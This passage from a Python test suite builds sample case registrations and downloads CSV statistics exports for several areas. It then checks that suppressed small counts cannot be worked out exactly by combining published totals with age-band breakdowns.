        for born in (2016, 2013, 2010):  # aged 10, 13 and 16: three SSP age bands in Aby
            register(d, d.ssp, d.teacher, d.school, "vold", 1, born=born)
        register(d, d.psp, d.social_worker, d.social, "psykisk_saarbarhed", 1, born=2006)
    assert statistics.freeze(scope_of(d), Period(2026, 3)) is not None
    assert statistics.freeze(scope_of(d), Period(2026, 2)) is not None
    knowledge = Knowledge({}, {}, [])
    client.force_login(d.member)
    keys = _row_keys()
    for area in ("alle", d.aby.code, d.bby.code):
        params = {"omraade": area, "periode": "2026-Q3"}
        response = client.get(url(d.kredsraad, "csv"), params)
        for row in csv_rows(response.content.decode()):
            measure_code, key = keys[(row[0], row[1])]
            var = (measure_code, key, area, "2026-Q3")
            if row[4] in (SMALL, DASH):
                knowledge.hidden[var] = row[4]
            else:
                knowledge.published[var] = int(row[4])
    ages = [f"alle|{code}" for code, *_rest in statistics.AGE_BANDS]
    for area in ("alle", d.aby.code, d.bby.code):
        knowledge.equations.append(
            (
                ("opened", "alle|alle", area, "2026-Q3"),
                [("opened", age, area, "2026-Q3") for age in ages],
            )
        )
    pinned = {v: r for v, r in interval_recoveries(knowledge).items() if r[0] == r[1]}
    assert pinned == {}
